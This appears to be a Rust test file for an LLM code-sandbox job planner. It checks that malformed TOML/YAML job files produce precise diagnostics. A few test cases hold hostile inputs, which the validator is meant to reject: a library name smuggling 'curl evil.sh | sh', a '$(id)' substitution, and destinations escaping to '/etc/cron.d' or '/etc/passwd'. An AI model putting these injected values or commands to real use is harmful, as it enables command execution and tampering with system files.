//! Malformed job files must fail with a diagnostic naming the file, the line and what
//! would be valid; good files must plan.

use llm_sandbox::plan::{plan_paths, PlanOptions};
use std::path::{Path, PathBuf};

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures")
}

fn render(reports: &[miette::Report]) -> String {
    let mut out = String::new();
    for r in reports {
        // Never wrapped: the checkout path's length must not split a phrase across lines.
        miette::GraphicalReportHandler::new_themed(miette::GraphicalTheme::unicode_nocolor())
            .with_wrap_lines(false)
            .render_report(&mut out, r.as_ref())
            .unwrap();
        out.push('\n');
    }
    out
}

fn bad(name: &str) -> String {
    let path = fixtures().join("bad").join(name);
    match plan_paths(&[path], &PlanOptions::default()) {
        Ok(p) => panic!("{name}: expected errors, planned {} jobs", p.jobs.len()),
        Err(e) => {
            assert!(!e.is_empty());
            render(&e)
        }
    }
}

/// (fixture, `file:line:` or "" when no line, phrases that must appear)
const CASES: &[(&str, &str, &[&str])] = &[
    (
        "toml_syntax.toml",
        "toml_syntax.toml:3:",
        &["TOML syntax error"],
    ),
    (
        "yaml_syntax.yaml",
        "yaml_syntax.yaml:",
        &["YAML syntax error"],
    ),
    (
        "yaml_duplicate_key.yaml",
        "yaml_duplicate_key.yaml:5:5",
        &["duplicate key `lang`"],
    ),
    (
        "toml_unknown_key.toml",
        "toml_unknown_key.toml:5:1",
        &[
            "unknown key `timeuot`",
            "did you mean `timeout`?",
            "known keys: name, lang",
        ],
    ),
    (
        "yaml_unknown_key.yml",
        "yaml_unknown_key.yml:7:7",
        &[
            "unknown key `stdot`",
            "did you mean `stdout`?",
            "known keys: exit_code, stdout",
        ],
    ),
    (
        "cases_check_beside_expect.toml",
        "cases_check_beside_expect.toml:6:27",
        &[
            "unknown key `stdout` in `jobs[0].cases[0]`",
            "did you mean `expect.stdout`?",
            "known keys: name, stdin, stdin_file, args, expect",
        ],
    ),
    (
        "toml_unknown_top_key.toml",
        "toml_unknown_top_key.toml:1:",
        &[
            "unknown key `default`",
            "did you mean `defaults`?",
            "known keys: defaults, vars, backends, jobs",
        ],
    ),
    (
        "toml_wrong_type.toml",
        "toml_wrong_type.toml:5:8",
        &["jobs[0].args", "invalid type", "list of strings"],
    ),
    (
        "yaml_wrong_type.yaml",
        "yaml_wrong_type.yaml:5:",
        &["network", "true or false"],
    ),
    (
        "missing_name.toml",
        "missing_name.toml:6:1",
        &["jobs[1]", "missing `name`"],
    ),
    (
        "missing_lang.yaml",
        "missing_lang.yaml:2:",
        &[
            "jobs[0] (`nolang`)",
            "missing `lang`",
            "valid languages: python, javascript",
        ],
    ),
    (
        "no_program.toml",
        "no_program.toml:1:1",
        &[
            "no program",
            "exactly one of `code`, `code_file`, `template` or `template_file`",
        ],
    ),
    (
        "two_programs.yaml",
        "two_programs.yaml:5:",
        &["`code` and `template` are both set", "exactly one of"],
    ),
    (
        "image_and_dockerfile.toml",
        "image_and_dockerfile.toml:6:",
        &["`image` and `dockerfile` are both set"],
    ),
    (
        "unknown_lang.toml",
        "unknown_lang.toml:3:8",
        &[
            "unknown language `pyhton`",
            "did you mean `python`?",
            "valid languages: python",
        ],
    ),
    (
        "unknown_backend.yaml",
        "unknown_backend.yaml:2:12",
        &[
            "unknown backend `dokcer`",
            "did you mean `docker`?",
            "native, docker, podman, kubernetes",
        ],
    ),
    (
        "bad_duration.toml",
        "bad_duration.toml:7:11",
        &["invalid duration", "\"500ms\""],
    ),
    (
        "bad_size.yaml",
        "bad_size.yaml:6:",
        &["invalid size", "MiB"],
    ),
    (
        "bad_regex.toml",
        "bad_regex.toml:7:16",
        &["expect.stdout_regex", "invalid regex"],
    ),
    (
        "bad_file_regex.yaml",
        "bad_file_regex.yaml:8:",
        &["expect.files.out.txt.regex", "invalid regex"],
    ),
    (
        "template_syntax.toml",
        "template_syntax.toml:9:",
        &["template error in `template`", "syntax error"],
    ),
    (
        "undefined_var.yaml",
        "undefined_var.yaml:8:",
        &["undefined variable `greting`", "did you mean `greeting`?"],
    ),
    (
        "missing_code_file.toml",
        "missing_code_file.toml:4:",
        &["cannot read `data/nope.py`", "relative to the job file"],
    ),
    (
        "missing_template_file.yaml",
        "missing_template_file.yaml:4:",
        &["cannot read `data/nope.py.j2`"],
    ),
    (
        "missing_dockerfile.toml",
        "missing_dockerfile.toml:5:",
        &["Dockerfile `data/nope/Dockerfile` not found"],
    ),
    (
        "files_glob_nothing.toml",
        "files_glob_nothing.toml:5:",
        &["`data/*.nothing` matches no file"],
    ),
    (
        "missing_dataset.yaml",
        "missing_dataset.yaml:5:",
        &["cannot read dataset `data/nope.jsonl`"],
    ),
    (
        "bad_dataset_jsonl.toml",
        "bad.jsonl:3:",
        &[
            "malformed dataset",
            "line 3 is not valid JSON",
            "bad_dataset_jsonl.toml:5:",
        ],
    ),
    (
        "bad_dataset_csv.yaml",
        "bad.csv:3:",
        &[
            "malformed dataset",
            "has 3 fields, the header has 2",
            "bad_dataset_csv.yaml:5:",
        ],
    ),
    (
        "duplicate_names.toml",
        "duplicate_names.toml:2:8",
        &[
            "duplicate job name `same-1`",
            "jobs[0] expands to it more than once",
            "put {{ index }}",
        ],
    ),
    (
        "library_shell.toml",
        "library_shell.toml:5:",
        &[
            "invalid library name `requests; curl evil.sh | sh`",
            "shell syntax",
        ],
    ),
    (
        "files_dest_escape.yaml",
        "files_dest_escape.yaml:7:",
        &["destination `../../etc/cron.d/x` leaves the workdir"],
    ),
    (
        "files_dest_absolute.toml",
        "files_dest_absolute.toml:5:",
        &["destination `/etc/passwd` is absolute and outside /sandbox"],
    ),
    (
        "matrix_empty_list.toml",
        "matrix_empty_list.toml:5:",
        &["matrix key `b` has an empty list"],
    ),
    (
        "matrix_not_table.yaml",
        "matrix_not_table.yaml:5:",
        &["matrix", "table of non-empty lists"],
    ),
    (
        "template_file_error.toml",
        "broken.py.j2:",
        &["template error in `template_file`", "syntax error"],
    ),
    (
        "undefined_in_row.toml",
        "undefined_in_row.toml:4:",
        &[
            "undefined variable `row.answer`",
            "partial.jsonl row 1 and 1 more",
            "`row.answer` is missing in some rows",
        ],
    ),
    (
        "no_jobs.toml",
        "",
        &["no_jobs.toml", "no jobs in this file"],
    ),
    (
        "cases_glob_nothing.toml",
        "cases_glob_nothing.toml:5:9",
        &[
            "`cases`: `data/nothing/*.in` matches no file",
            "X.out` or `X.ans`",
        ],
    ),
    (
        "cases_no_answer.toml",
        "cases_no_answer.toml:5:9",
        &[
            "case input `data/cases/b.in` has no expected output",
            "`data/cases/b.out` or `data/cases/b.ans`",
        ],
    ),
    (
        "cases_rendered_not_list.toml",
        "cases_rendered_not_list.toml:6:9",
        &[
            "cases_rows.jsonl row 1",
            "did not render to a JSON list",
            "`input` and `output`",
        ],
    ),
    (
        "cases_both_stdin.toml",
        "cases_both_stdin.toml:5:52",
        &["`cases[0].stdin_file`: `stdin` and `stdin_file` are both set"],
    ),
    (
        "interactor_no_cases.toml",
        "interactor_no_cases.toml:5:14",
        &[
            "`interactor`: an `interactor` talks with the program of each test case, and this job has none",
            "each case's input is the interactor's INPUT file",
        ],
    ),
    (
        "interactor_no_program.toml",
        "interactor_no_program.toml:6:14",
        &["the interactor has no program", "interactor INPUT OUTPUT [ANSWER]"],
    ),
    (
        "compare_unknown.yaml",
        "compare_unknown.yaml:5:14",
        &[
            "unknown `compare` value `numbers`",
            "\"lines\" (the default), \"exact\", \"tokens\", or { float = 1e-6 }",
        ],
    ),
];

#[test]
fn bad_fixtures_report_file_line_and_fix() {
    let mut failures = vec![];
    for (name, loc, phrases) in CASES {
        let out = bad(name);
        if !loc.is_empty() && !out.contains(loc) {
            failures.push(format!("{name}: missing location `{loc}` in:\n{out}"));
        }
        if !out.contains(name) {
            failures.push(format!("{name}: file name missing in:\n{out}"));
        }
        for p in *phrases {
            if !out.contains(p) {
                failures.push(format!("{name}: missing `{p}` in:\n{out}"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n----\n"));
}

#[test]
fn every_bad_fixture_is_covered() {
    let mut names: Vec<String> = std::fs::read_dir(fixtures().join("bad"))
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".toml") || n.ends_with(".yaml") || n.ends_with(".yml"))
        .collect();
    names.sort();
    for n in names {
        assert!(
            CASES.iter().any(|(c, _, _)| *c == n) || n == "multi_errors.toml",
            "fixture {n} has no case"
        );
    }
}

#[test]
fn all_errors_of_all_files_are_collected() {
    let bad = fixtures().join("bad");
    let paths = [bad.join("multi_errors.toml"), bad.join("unknown_lang.toml")];
    let errs = plan_paths(&paths, &PlanOptions::default()).unwrap_err();
    let out = render(&errs);
    assert_eq!(errs.len(), 4, "{out}");
    assert!(out.contains("jobs[0] (`a`): missing `lang`"), "{out}");
    assert!(out.contains("jobs[1] (`b`): no program"), "{out}");
    assert!(out.contains("invalid library name `$(id)`"), "{out}");
    assert!(out.contains("unknown_lang.toml:3:8"), "{out}");
}

#[test]
fn missing_paths_and_empty_dirs() {
    let errs = plan_paths(
        &[PathBuf::from("definitely/not/here")],
        &PlanOptions::default(),
    )
    .unwrap_err();
    assert!(render(&errs).contains("definitely/not/here: no such file or directory"));
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("README.md"), "hi").unwrap();
    let errs = plan_paths(&[dir.path().to_path_buf()], &PlanOptions::default()).unwrap_err();
    let out = render(&errs);
    assert!(out.contains("directory contains no job files"), "{out}");
    assert!(out.contains(&dir.path().display().to_string()), "{out}");
}

#[test]
fn good_fixtures_plan() {
    let good = fixtures().join("good");
    let plan = match plan_paths(std::slice::from_ref(&good), &PlanOptions::default()) {
        Ok(p) => p,
        Err(e) => panic!("{}", render(&e)),
    };
    let names: Vec<&str> = plan.jobs.iter().map(|j| j.name.as_str()).collect();
    // Files in sorted order: dataset.toml, hello.toml, matrix.yaml, template_file.yaml.
    assert_eq!(
        names,
        [
            "add-0",
            "add-1",
            "add-2",
            "case-0-x",
            "case-1-y", // dataset.toml
            "hello",    // hello.toml
            "py-sum-1",
            "py-sum-2",
            "js-sum-1",
            "js-sum-2", // matrix.yaml
            "from-file",
            "from-code-file", // template_file.yaml
        ]
    );
    assert_eq!(plan.total_before_filter, 12);
    assert_eq!(plan.files.len(), 4);
    let by = |n: &str| plan.jobs.iter().find(|j| j.name == n).unwrap();
    assert_eq!(by("hello").code, "print('Hello, World!')");
    assert_eq!(by("hello").expect.stdout.as_deref(), Some("Hello, World!"));
    assert_eq!(by("hello").timeout, std::time::Duration::from_secs(10));
    assert_eq!(by("add-1").code, "print(2 + 3)\n");
    assert_eq!(by("add-1").expect.stdout.as_deref(), Some("5"));
    assert_eq!(by("case-1-y").stdin.as_deref(), Some("y"));
    assert_eq!(by("js-sum-2").lang, llm_sandbox::spec::Lang::Javascript);
    assert_eq!(by("js-sum-2").code, "console.log(2 + 2)");
    assert_eq!(
        by("from-file").code,
        "# Greeting for from-file\nprint(\"Hi\")\n"
    );
    assert_eq!(by("from-code-file").code, "print(\"{{ not rendered }}\")\n");
    assert_eq!(by("from-code-file").files.len(), 1);
    assert_eq!(by("from-code-file").files[0].dest, "data/input.txt");
    assert!(by("from-code-file").pod_manifest.is_some());
    // Filters.
    let opts = PlanOptions {
        filters: vec!["*-sum-2".into(), "tag:smoke".into()],
        ..Default::default()
    };
    let plan = plan_paths(&[good], &opts).unwrap();
    let names: Vec<&str> = plan.jobs.iter().map(|j| j.name.as_str()).collect();
    assert_eq!(names, ["hello", "py-sum-2", "js-sum-2"]);
    assert_eq!(plan.total_before_filter, 12);
    assert_eq!(plan.jobs[2].id, 2);
}

/// `cargo test --test spec_errors dump -- --ignored --nocapture` shows them all.
#[test]
#[ignore = "a viewer, not a check: prints every diagnostic"]
fn dump() {
    for (name, _, _) in CASES {
        println!("===== {name}\n{}", bad(name));
    }
    println!("===== multi_errors.toml\n{}", bad("multi_errors.toml"));
}
